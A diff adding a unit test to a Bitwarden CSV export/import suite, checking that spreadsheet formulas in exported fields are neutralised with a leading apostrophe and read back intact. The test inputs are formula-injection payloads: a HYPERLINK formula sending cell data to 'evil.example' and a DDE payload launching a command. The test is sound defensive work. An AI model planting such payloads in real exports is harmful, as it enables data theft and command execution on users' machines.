@@ -181,6 +181,32 @@ describe('Bitwarden CSV', () => {
       notes: 'Rack 2',
     });
   });
+  it('neutralises formulas in every cell but the password, and reads them back exactly', () => {
+    const risky = {
+      ...entry,
+      title: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+      username: "=cmd|' /C calc'!A0",
+      notes: '@SUM(1+1)',
+      password: '=Exact-Secret+1',
+    };
+    const row = bitwardenRow(risky);
+    const at = (c: (typeof BITWARDEN_COLUMNS)[number]) => row[BITWARDEN_COLUMNS.indexOf(c)];
+    expect(at('name')).toBe(`'${risky.title}`);
+    expect(at('login_username')).toBe(`'${risky.username}`);
+    expect(at('notes')).toBe("'@SUM(1+1)");
+    expect(at('login_password')).toBe('=Exact-Secret+1');
+    const back = fromBitwardenRecord(Object.fromEntries(BITWARDEN_COLUMNS.map((c, i) => [c, row[i]!])), {
+      category: 'Student Information System',
+      department: 'IT Administration',
+      accessLevel: 'admin',
+    });
+    expect(back).toMatchObject({
+      title: risky.title,
+      username: risky.username,
+      notes: risky.notes,
+      password: risky.password,
+    });
+  });
   it('names the field of a rejected row', () => {
     const row = fromBitwardenRecord(
       { name: 'No password' },
